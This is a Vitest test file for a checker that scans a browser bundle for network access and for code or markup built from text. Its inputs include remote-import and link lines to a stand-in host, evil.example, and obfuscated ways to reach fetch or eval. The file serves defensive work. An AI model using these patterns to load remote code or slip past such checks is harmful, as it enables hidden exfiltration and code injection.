import { describe, expect, it } from 'vitest';
import { waysFromText, waysToNetwork } from '../browser/bundle-code.ts';

describe('the check for ways to the network', () => {
  it.each([
    ['fetch(u)', 'fetch'],
    ['const f = fetch; f(u)', 'fetch'],
    ['const f = globalThis.fetch; f(u)', 'fetch'],
    [`globalThis['fetch'](u)`, 'fetch'],
    ['globalThis[`fetch`](u)', 'fetch'],
    ['const g = globalThis; g.fetch(u)', 'fetch'],
    ['const { fetch: f } = globalThis', 'fetch'],
    [`const { ['fetch']: f } = globalThis`, 'fetch'],
    [`Reflect.get(globalThis, 'fetch')`, 'fetch'],
    ['document.defaultView.fetch(u)', 'fetch'],
    ['this.fetch(u)', 'fetch'],
    [`globalThis['fe' + 'tch'](u)`, 'a name that is made up'],
    ['new XMLHttpRequest()', 'XMLHttpRequest'],
    ['new WebSocket(u)', 'WebSocket'],
    ['new window.WebSocket(u)', 'WebSocket'],
    ['new EventSource(u)', 'EventSource'],
    ['new RTCPeerConnection()', 'RTCPeerConnection'],
    ['new webkitRTCPeerConnection()', 'webkitRTCPeerConnection'],
    ['new WebTransport(u)', 'WebTransport'],
    ['new Worker(u)', 'Worker'],
    ['new SharedWorker(u)', 'SharedWorker'],
    ['importScripts(u)', 'importScripts'],
    ['navigator.sendBeacon(u)', 'sendBeacon'],
    [`navigator['sendBeacon'](u)`, 'sendBeacon'],
    ['new Image().src = u', 'Image'],
    ['new Audio(u)', 'Audio'],
    ['element.src = u', 'src ='],
    [`element['srcset'] = u`, 'srcset ='],
    [`document.createElement('img')`, 'img'],
    ['document.createElementNS(svg, `image`)', 'image'],
    [`jsx('iframe', {})`, 'iframe'],
    ['browser.runtime.setUninstallURL(u)', 'setUninstallURL'],
    ['import(u)', 'import of a variable'],
    ['import(`./${u}.js`)', 'import of a variable'],
    [`import('https://evil.example/x.js')`, 'import of https://evil.example/x.js'],
    [`import '//evil.example/x.js'`, 'import of //evil.example/x.js'],
    [`export * from 'https://evil.example/x.js'`, 'import of https://evil.example/x.js'],
    [`link.href = '//evil.example/x'`, '//evil.example/x'],
    ['link.href = `//evil.example/${x}`', '//evil.example/'],
    [`link.href = 'https:' + '//evil.example'`, '//evil.example'],
    [String.raw`link.href = '\\\\evil.example'`, String.raw`\\evil.example`],
  ])('sees %s', (code, way) => {
    expect(waysToNetwork(code)).toContain(way);
  });

  it.each([
    'class Tree { fetch(key, initial) { return this.get(key) ?? initial } }',
    'this._index.fetch(term, create)',
    'const names = { fetch: 1, eval: { minArgs: 1 } }',
    `import { a } from './a.js'`,
    `import { a } from '/chunks/a.js'`,
    `import('./a.js')`,
    `const kind = 'Image-guided'; const words = ['a fetch', '// a remark', '/ or //']`,
    '/* fetch(u) */ const a = `${b}//${c}`',
    `document.createElement('div').textContent = 'img'`,
    `document.querySelectorAll('iframe')`,
    'const { src } = image; const g = globalThis; g[key] = 1',
    'globalThis.CSS.highlights.set(name, value)',
  ])('lets %s pass', (code) => {
    expect(waysToNetwork(code)).toEqual([]);
  });
});

describe('the check for code and markup out of text', () => {
  it.each([
    ['eval(text)', 'eval'],
    ['const e = eval; e(text)', 'eval'],
    ['globalThis.eval(text)', 'eval'],
    ['Function(text)()', 'Function'],
    ['new Function(text)', 'Function'],
    ['const F = Function; F(text)', 'Function'],
    [`globalThis['Function'](text)`, 'Function'],
    ['(() => {}).constructor(text)()', 'constructor()'],
    ['WebAssembly.compile(bytes)', 'WebAssembly'],
    [`setTimeout('go()')`, 'setTimeout of a text'],
    ['window.setInterval(`go(${x})`)', 'setInterval of a text'],
    ['document.write(text)', 'write'],
    ['element.innerHTML = text', 'innerHTML ='],
    ['element.innerHTML += text', 'innerHTML ='],
    [`element['innerHTML'] = text`, 'innerHTML ='],
    ['element.outerHTML = text', 'outerHTML ='],
    ['Object.assign(element, { innerHTML: text })', 'innerHTML:'],
    ['frame.srcdoc = text', 'srcdoc ='],
    [`element.insertAdjacentHTML('beforeend', text)`, 'insertAdjacentHTML'],
    ['range.createContextualFragment(text)', 'createContextualFragment'],
    ['new DOMParser()', 'DOMParser'],
    ['element.setHTMLUnsafe(text)', 'setHTMLUnsafe'],
    [`jsx('p', { dangerouslySetInnerHTML: { __html: text } })`, 'dangerouslySetInnerHTML:'],
    [`const props = { ['dangerouslySetInnerHTML']: text }`, 'dangerouslySetInnerHTML:'],
  ])('sees %s', (code, way) => {
    expect(waysFromText(code)).toContain(way);
  });

  it.each([
    // Preact's own path, for a prop that nobody gives it.
    `if (name == 'dangerouslySetInnerHTML') html = value; element.innerHTML = html.__html`,
    'old.__html == element.innerHTML',
    'const call = Function.call.bind(Object.prototype.toString)',
    'this.constructor(props, context)',
    'value instanceof Function',
    'const names = { inspectedWindow: { eval: { minArgs: 1 } } }',
    'setTimeout(go, 100)',
    'setTimeout(() => (element.textContent = `a`))',
  ])('lets %s pass', (code) => {
    expect(waysFromText(code)).toEqual([]);
  });
});
